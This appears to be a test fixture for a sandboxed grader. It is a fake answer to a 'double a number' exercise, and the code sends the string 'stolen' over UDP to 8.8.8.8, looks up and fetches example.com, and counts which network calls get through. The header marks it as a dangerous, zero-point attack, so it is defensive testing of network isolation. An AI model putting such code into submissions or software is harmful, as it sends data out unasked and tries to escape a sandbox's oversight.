// attack: asks the domain name system, and sends datagrams
// points: 0
// says: expected 42, got 0
// dangerous: it would reach the network
// %%
// exercise 01.1 · Double a number
function double(n: number): any {
  const dns = require("node:dns").promises;
  const dgram = require("node:dgram");
  const socket = dgram.createSocket("udp4").on("error", () => {});
  try { socket.send("stolen", 53, "8.8.8.8", () => {}); } catch {}
  const asked = [dns.lookup("example.com"), dns.resolve4("example.com"), fetch("http://example.com/")];
  const late = new Promise((resolve) => setTimeout(resolve, 300));
  let reached = 0;
  for (const one of asked) one.then(() => (reached += 1), () => {});
  return late.then(() => (socket.close(), reached));
}
